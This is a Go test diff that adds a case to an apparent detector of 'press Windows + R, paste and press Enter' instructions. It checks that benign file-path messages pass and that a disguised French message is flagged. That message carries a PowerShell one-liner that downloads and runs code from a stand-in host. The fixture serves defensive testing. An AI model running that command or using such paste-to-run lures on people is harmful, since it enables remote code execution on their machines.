@@ -93,3 +93,19 @@ func TestShownInstallerLine(t *testing.T) {
 		t.Errorf("an installer's line shown to paste: %q", got)
 	}
 }
+
+// A path written out in the message is what the reader pastes, and sees.
+func TestShownPath(t *testing.T) {
+	for _, text := range []string{
+		"Sélectionnez et copiez \\\\srv-fichiers02\\commun\\protocoles, puis appuyez sur Windows + R, collez et appuyez sur Entrée.",
+		"Copy C:\\Program Files\\Planning\\planning.exe, press Windows + R, paste it and press Enter.",
+	} {
+		if got := Instruction(text); got != "" {
+			t.Errorf("a path shown to paste: %q in %q", got, text)
+		}
+	}
+	twin := "Copiez \\\\srv-fichiers02\\commun puis appuyez sur Windows + R, collez et Entrée : powershell -c \"iwr https://x.example/a | iex\""
+	if Instruction(twin) == "" {
+		t.Error("a remote command beside a path: not found")
+	}
+}
